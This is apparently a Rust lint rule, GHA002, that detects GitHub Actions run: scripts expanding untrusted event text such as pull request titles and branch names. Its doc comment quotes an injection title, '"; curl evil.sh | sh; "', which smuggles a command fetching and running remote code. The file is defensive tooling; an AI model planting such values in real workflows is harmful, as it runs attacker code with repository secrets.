//! GHA002 no-untrusted-input-in-run.

use super::{jobs, steps};
use crate::rules::{rule, Findings, Rule, RuleMeta};
use crate::tree::Tree;
use slipway_diagnostics::Span;

rule! {
    /// ## What it does
    /// Flags `${{ ... }}` expressions in `run:` scripts that expand text an outsider
    /// controls: issue, pull request, comment and review titles and bodies, branch
    /// names (`head_ref`), commit messages, labels.
    ///
    /// ## Why
    /// The expression is pasted into the script before the shell runs it; a pull
    /// request titled `"; curl evil.sh | sh; "` runs with the workflow's secrets.
    ///
    /// ## Example
    /// ```yaml
    /// - run: echo "${{ github.event.pull_request.title }}"
    /// ```
    ///
    /// ## Fix
    /// Pass it through an environment variable: `env: { TITLE: ${{ github.event.pull_request.title }} }`, then `echo "$TITLE"`.
    ///
    /// Peers: actionlint [expression] (untrusted input); checkov CKV_GHA_2.
    Gha002 { id: "GHA002", name: "no-untrusted-input-in-run", severity: Error, production: true, peers: "actionlint expression; checkov CKV_GHA_2" }
}

const UNTRUSTED: &[&str] = &[
    "github.head_ref",
    ".title",
    ".body",
    ".head_ref",
    ".head.ref",
    ".head.label",
    "commits",
    "head_commit.message",
    "head_commit.author",
    ".label",
    "pages",
    ".email",
];

impl Rule for Gha002 {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, tree: &Tree, out: &mut Findings) {
        for (file, root) in tree.workflows() {
            for (_, job) in jobs(root) {
                for step in steps(job) {
                    let Some(run) = step.get("run") else { continue };
                    let text = run.as_scalar().unwrap_or("");
                    let mut rest = text;
                    while let Some(i) = rest.find("${{") {
                        let expr_end = rest[i..].find("}}").map_or(rest.len(), |e| i + e + 2);
                        let expr = &rest[i..expr_end];
                        if (expr.contains("github.event") || expr.contains("github.head_ref"))
                            && UNTRUSTED.iter().any(|u| expr.contains(u))
                        {
                            // Point into the source when the scalar is written as is.
                            let at = file.text[run.span.start..run.span.end]
                                .find(expr)
                                .map_or(run.span, |o| {
                                    Span::new(run.span.start + o, run.span.start + o + expr.len())
                                });
                            out.add(
                                &Self::META,
                                file,
                                at,
                                format!(
                                    "`{}` expands untrusted input into a shell script",
                                    expr.trim()
                                ),
                                Some("pass it through `env:` and use \"$VAR\" in the script"),
                            );
                        }
                        rest = &rest[expr_end..];
                    }
                }
            }
        }
    }
}
